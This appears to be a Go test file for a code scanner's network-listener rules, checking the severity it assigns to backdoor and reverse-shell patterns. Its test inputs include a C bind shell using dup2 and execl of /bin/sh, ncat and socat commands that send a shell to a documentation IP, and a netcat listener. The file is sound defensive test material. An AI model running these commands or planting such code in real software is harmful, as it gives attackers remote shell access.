package listener

import (
	"glassbox.dev/scan/rules/internal/ruletest"
	"testing"

	"glassbox.dev"
)

// TestSpecifics pins severities and places for the cases that matter.
func TestSpecifics(t *testing.T) {
	ruletest.Specifics(t, New(), []ruletest.Specific{
		{Name: "vsftpd port 6200 is a known backdoor port", Path: "str.c", Src: "int s;\nvoid f(void){\n sa.sin_port = htons(6200);\n bind(s, 0, 0); listen(s, 1);\n}\n", Rule: "GB0202", Sev: glassbox.SeverityHigh, Line: 3, Snippet: "htons(6200)"},
		{Name: "an arbitrary port is medium", Path: "srv.py", Src: "import socket\ns=socket.socket()\ns.bind(('', 47123))\n", Rule: "GB0202", Sev: glassbox.SeverityMedium, Line: 3, Snippet: ".bind(('', 47123)"},
		{Name: "listener in init is high, at the call", Path: "x.go", Src: "package x\n\nimport \"net\"\n\nfunc init() {\n\tnet.Listen(\"tcp\", \":8080\")\n}\n", Rule: "GB0201", Sev: glassbox.SeverityHigh, Line: 6, Snippet: `net.Listen("tcp", ":8080")`},
		{Name: "dup2 then execl of /bin/sh is critical", Path: "bd.c", Src: "int main(){ int c = accept(s,0,0);\n dup2(c,0); dup2(c,1);\n execl(\"/bin/sh\",\"sh\",0); }\n", Rule: "GB0203", Sev: glassbox.SeverityCritical, Line: 2, Snippet: "dup2(c,0); dup2(c,1);"},
		{Name: "a netcat listener in a shell script", Path: "run.sh", Src: "echo no | nc -lp 31337\n", Rule: "GB0202", Sev: glassbox.SeverityHigh, Line: 1, Snippet: "nc -lp 31337"},
		{Name: "ncat --exec cmd.exe", Path: "run.bat.sh", Src: "ncat 198.51.100.1 4443 --exec cmd.exe\n", Rule: "GB0203", Sev: glassbox.SeverityCritical, Line: 1, Snippet: "ncat 198.51.100.1 4443 --exec cmd.exe"},
		{Name: "socat exec bash", Path: "x.sh", Src: "socat tcp-connect:198.51.100.1:443 exec:'bash -li',pty,stderr\n", Rule: "GB0203", Sev: glassbox.SeverityCritical, Line: 1, Snippet: "socat tcp-connect:198.51.100.1:443 exec:'bash"},
		{Name: "in test code it is low and says so", Path: "pkg/x_test.go", Src: "package x\n\nimport \"net\"\n\nfunc init() { net.Listen(\"tcp\", \":1\") }\n", Rule: "GB0201", Sev: glassbox.SeverityLow, Line: 5, Snippet: `net.Listen("tcp", ":1")`},
	})
}

// TestRules checks the rule table is complete and in the family's range.
func TestRules(t *testing.T) { ruletest.Rules(t, New(), "GB02", Family) }

// FuzzAnalyze checks the analyser never panics, whatever the language.
func FuzzAnalyze(f *testing.F) {
	ruletest.Fuzz(f, New(), "go", "c", "python", "javascript", "shell", "")
}

// TestCorpus is the specification by example (see ruletest.Corpus).
func TestCorpus(t *testing.T) { ruletest.Corpus(t, New(), ruletest.AsSource) }

// TestConcurrent runs the analyser from many goroutines (run with -race).
func TestConcurrent(t *testing.T) { ruletest.Concurrent(t, New(), ruletest.AsSource) }
